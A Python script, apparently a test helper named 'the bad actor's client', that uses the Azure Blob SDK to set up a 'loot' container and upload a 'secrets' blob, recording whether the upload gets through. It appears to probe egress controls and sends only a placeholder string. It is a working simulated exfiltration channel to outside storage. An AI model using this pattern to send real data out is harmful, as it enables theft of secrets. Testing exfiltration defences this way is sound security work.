"""The bad actor's client, with the Azure SDK.

    storage_client.py prepare URL CA   creates the container `loot`; prints {"sas": "…"}, valid for an hour
    storage_client.py upload URL CA    uploads a blob; prints {"ok", "error", "errno", "seconds"}

The account's name is the URL's first label, its key is in ACCOUNT_KEY.
"""

import datetime
import json
import os
import sys
import time
from urllib.parse import urlsplit

from azure.core.exceptions import AzureError, ResourceExistsError
from azure.storage.blob import (
    AccountSasPermissions,
    BlobServiceClient,
    ResourceTypes,
    generate_account_sas,
)

CONTAINER = "loot"


def main(command, url, ca):
    account = urlsplit(url).hostname.split(".")[0]
    key = os.environ["ACCOUNT_KEY"]
    client = BlobServiceClient(
        url,
        credential={"account_name": account, "account_key": key},
        connection_verify=ca,
        retry_total=0,
        connection_timeout=10,
        read_timeout=10,
    )
    report = prepare(client, account, key) if command == "prepare" else upload(client)
    print(json.dumps(report))


def prepare(client, account, key):
    try:
        client.create_container(CONTAINER)
    except ResourceExistsError:
        pass
    sas = generate_account_sas(
        account,
        key,
        resource_types=ResourceTypes(object=True),
        permission=AccountSasPermissions(write=True, create=True),
        expiry=datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=1),
    )
    return {"sas": sas}


def upload(client):
    start = time.monotonic()
    error = None
    try:
        blob = client.get_blob_client(CONTAINER, f"secrets-{time.time_ns()}")
        blob.upload_blob(b"what the device knows")
    except AzureError as caught:
        error = caught
    return {
        "ok": error is None,
        "error": None if error is None else " ".join(str(error).split()),
        "errno": errno_of(error),
        "seconds": time.monotonic() - start,
    }


def errno_of(error):
    """Returns the errno of the OSError at the root of the SDK's, requests' and urllib3's errors."""
    seen = set()
    queue = [error]
    found = None
    while queue:
        current = queue.pop()
        if not isinstance(current, BaseException) or id(current) in seen:
            continue
        seen.add(id(current))
        if isinstance(current, OSError) and isinstance(current.errno, int):
            found = current.errno
        queue += [current.__cause__, current.__context__, getattr(current, "reason", None)]
        queue += [getattr(current, "inner_exception", None), *current.args]
    return found


if __name__ == "__main__":
    main(*sys.argv[1:])
